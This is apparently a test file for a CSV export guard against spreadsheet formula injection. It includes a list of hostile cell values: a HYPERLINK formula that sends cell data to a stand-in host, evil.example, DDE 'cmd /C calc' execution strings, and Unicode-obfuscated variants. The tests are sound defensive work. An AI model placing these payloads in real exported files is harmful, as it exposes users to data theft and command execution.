"""What a spreadsheet would make of an exported file, by its own rules of import: nothing a provider wrote is run, and
no phone number changes. The rules are written down here from the programs' documentation, apart from the guard's."""

from __future__ import annotations

import csv
import io
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from runner.domain.table import Dialect
from runner.exports import Layout, Line, write
from tests.exports.rows import EMAIL, GOOD

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\0=1+1",
    "\x1b=1+1",
    '"=1+1"',
    '";=1+1;"',
    "x\n=1+1",
    "{=1+1}",
    "=",
    "+",
    "-",
    "@",
    'DDE("cmd";"/C calc";"x")',
]
PHONES = ["+33639980123", "+14155550100", "+390612345678", "00491711234567", "0639980123"]


def would_run(cell: str) -> bool:
    """Whether Excel or LibreOffice takes a cell of a CSV for a formula: it begins, after blanks and marks that have no
    glyph, with one of their signs, full-width ones read like the plain, and is not just a signed number."""
    text = "".join(char for char in cell if unicodedata.category(char) not in ("Cf", "Cc") or char in "\t\r\n")
    text = unicodedata.normalize("NFKC", text).strip()
    if not text or text[0] not in "=+-@":
        return False
    try:
        float(text)
    except ValueError:
        return True
    return text[0] == "="


def exported(values: list[str], *, delimiter: str = ",") -> list[list[str]]:
    """The cells of the provider's column and of the user's, as another program's reader of CSV gives them."""
    stream = io.BytesIO()
    lines = [Line([value.replace("\0", "")], [GOOD._replace(columns={"risk_score": value})]) for value in values]
    layout = Layout(header=["own"], operations=[EMAIL], chosen=["own", "risk_score"])
    write(stream, lambda: lines, layout=layout, dialect=Dialect(delimiter=delimiter, line_end="\r\n"))
    return list(csv.reader(io.StringIO(stream.getvalue().decode(), newline=""), delimiter=delimiter))[1:]


def test_hostile_texts_are_texts() -> None:
    """Not one of them would be run, in either delimiter; each is recognisable still."""
    assert all(would_run(value) for value in HOSTILE[:9])
    for delimiter in (",", ";", "\t"):
        rows = exported(HOSTILE, delimiter=delimiter)
        assert [theirs for _, theirs in rows if would_run(theirs)] == []
        assert [theirs.removeprefix("'") for _, theirs in rows] == [value.replace("\0", "\ufffd") for value in HOSTILE]


def test_phone_numbers_are_intact_and_own_cells_untouched() -> None:
    """A `+` before digits is a number to every spreadsheet, never a formula; what the user wrote stays theirs."""
    assert [theirs for _, theirs in exported(PHONES)] == PHONES
    assert [own for own, _ in exported(HOSTILE)] == [value.replace("\0", "") for value in HOSTILE]


@given(st.lists(st.text(max_size=12) | st.sampled_from(HOSTILE), max_size=6))
def test_no_text_would_be_run(values: list[str]) -> None:
    """Whatever a provider sends."""
    assert not [theirs for _, theirs in exported(values) if would_run(theirs)]
